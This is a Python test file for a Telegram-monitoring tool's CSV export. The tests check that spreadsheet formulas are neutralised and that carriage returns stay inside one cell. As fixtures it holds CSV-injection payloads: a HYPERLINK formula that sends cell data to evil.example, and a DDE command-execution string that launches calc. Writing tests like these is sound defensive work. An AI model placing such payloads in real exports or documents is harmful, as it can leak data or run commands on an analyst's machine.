"""CSV cells a spreadsheet would run as formulas are written as text (issue 13.1), and a cell
holding a CR or LF stays one cell of one row (issue 22.3).

Post text is written by the people being watched; an analyst opens the export in a spreadsheet.
"""

from __future__ import annotations

import csv
import json
import tempfile
from datetime import timedelta
from pathlib import Path

import pytest
import sqlite_utils
from hypothesis import given, settings
from hypothesis import strategies as st

from config import FeedConfig, Settings
from riftwatch.byod.writers import FORMULA_STARTS, NameList, atomic_rows, neutralise_formula
from store.feeds import add_feed
from store.items import save_items
from store.models import Item, to_iso, utc_now

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)


def _seed_hostile_post(db: sqlite_utils.Database) -> None:
    feed = add_feed(db, FeedConfig(name="hostile", kind="telegram", role="blogger",
                                   channel="hostile", title="@SUM(1+1)*cmd"))
    save_items(db, feed.id, [Item(text=HYPERLINK, channel="hostile", post_id=1,
                                  author=" +1 555", published_at=utc_now())])
    item_id = db.execute("SELECT id FROM items").fetchone()[0]
    db["scores"].insert({
        "item_id": item_id, "model_version": "sample-model", "stance": "critical",
        "p_supportive": 0.1, "p_critical": 0.7, "p_alarmed": 0.1, "p_neutral": 0.1,
        "themes": json.dumps({"mod_criticism": 0.9}), "targets": json.dumps(["=1+1"]),
        "themes_present": json.dumps(["mod_criticism"]),
        "evidence": DDE, "language": "ru", "scored_at": to_iso(utc_now())})


def test_export_with_scores_neutralises_formulas_in_every_text_column(
    settings: Settings, db: sqlite_utils.Database, db_path: Path, tmp_path: Path, run_cli
) -> None:
    _seed_hostile_post(db)
    out = tmp_path / "week.csv"
    code, _, err = run_cli("export", "--since", "1d", "--with-scores", "--out", out,
                           "--db", db_path)
    assert code == 0, err
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["text"] == "'" + HYPERLINK
    assert rows[0]["evidence"] == "'" + DDE
    assert rows[0]["feed_title"] == "'@SUM(1+1)*cmd"
    assert rows[0]["author"] == "' +1 555"
    assert not [cell for row in rows for cell in row.values() if _dangerous(cell)]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "  =1", "\n-x"])
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "1-2", "a=b", "", "'=already"])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_formula(text) == text


def test_jsonl_keeps_the_text_as_it_was(tmp_path: Path) -> None:
    out = tmp_path / "rows.jsonl"
    with atomic_rows(out, "jsonl", ["message"]) as writer:
        writer.write({"message": DDE})
    assert json.loads(out.read_text(encoding="utf-8")) == {"message": DDE}


# ---- a CR inside a cell (issue 22.3): one writer, RFC 4180, for every CSV riftwatch writes ------

CR_POST = "Новости дня\r=cmd|' /C calc'!A0"


def _read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_keeps_a_cell_with_a_cr_in_one_row(
        settings: Settings, db: sqlite_utils.Database, db_path: Path, tmp_path: Path, run_cli
) -> None:
    feed = add_feed(db, FeedConfig(name="crlf", kind="telegram", role="blogger", channel="crlf"))
    save_items(db, feed.id, [Item(text=CR_POST, channel="crlf", post_id=1, author="a\rb",
                                  published_at=utc_now())])
    out = tmp_path / "week.csv"
    code, _, err = run_cli("export", "--since", "1d", "--out", out, "--db", db_path)
    assert code == 0, err
    (row,) = _read_rows(out)
    assert (row["text"], row["author"]) == (CR_POST, "a\rb")
    assert out.read_bytes().count(b"\r\n") == 2  # RFC 4180 line ends: the header and one row
    assert not [cell for cell in row.values() if _dangerous(cell)]


def test_graph_csv_keeps_a_forward_with_a_cr_in_one_row(
        settings: Settings, db: sqlite_utils.Database, db_path: Path, tmp_path: Path, run_cli
) -> None:
    feed = add_feed(db, FeedConfig(name="crlf", kind="telegram", role="blogger", channel="crlf"))
    save_items(db, feed.id, [Item(text="Переслано", channel="crlf", post_id=1,
                                  forwarded_from=CR_POST,
                                  published_at=utc_now() - timedelta(minutes=5))])
    out = tmp_path / "graph.csv"
    code, _, err = run_cli("graph", "--since", "1d", "--format", "csv", "--out", out,
                           "--db", db_path)
    assert code == 0, err
    (row,) = _read_rows(out)
    assert (row["source"], row["target"], row["kind"]) == ("crlf", "Новости дня =cmd|' /C calc'!A0",
                                                           "forward")


@pytest.mark.slow
def test_score_out_keeps_a_cell_with_a_cr_in_one_row(model_env, tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    source = tmp_path / "posts.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["id", "message"], ["1", CR_POST], ["2", "Второй пост"]])
    out = tmp_path / "scored.csv"
    code, _, err = run_cli("score", source, "--out", out)
    assert code == 0, err
    rows = _read_rows(out)
    assert [(row["id"], row["message"]) for row in rows] == [("1", CR_POST), ("2", "Второй пост")]
    assert not [cell for row in rows for cell in row.values() if _dangerous(cell)]


# Arbitrary Unicode with the characters that break rows, quote cells or start formulas mixed in.
CELL_TEXT = st.one_of(
    st.text(max_size=30),
    st.lists(st.sampled_from(["\r", "\n", "\r\n", '"', ",", ";", "=", "+", "-", "@", "\t", " ",
                              "\x00", "\x0b", "\x85", "\u2028", "\u202e", "\ufeff", "Ж", "a"]),
             max_size=8).map("".join))
CELL = st.one_of(CELL_TEXT, st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                 st.lists(CELL_TEXT, max_size=3).map(lambda names: NameList(names)))


def _as_read_back(value: object) -> str:
    """What ``csv`` reads back for a value ``RowWriter`` wrote."""
    if isinstance(value, NameList):
        return neutralise_formula(";".join(value))
    if isinstance(value, str):
        return neutralise_formula(value)
    if value is None:
        return ""
    return str(int(value) if isinstance(value, bool) else value)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=6))
def test_any_unicode_cells_read_back_as_written(rows: list[list[object]]) -> None:
    columns = ["a", "b", "c"]
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "rows.csv"
        with atomic_rows(out, "csv", columns) as writer:
            for row in rows:
                writer.write(dict(zip(columns, row, strict=True)))
        with out.open(encoding="utf-8", newline="") as handle:
            back = list(csv.reader(handle))
    assert back[0] == columns
    assert back[1:] == [[_as_read_back(value) for value in row] for row in rows]
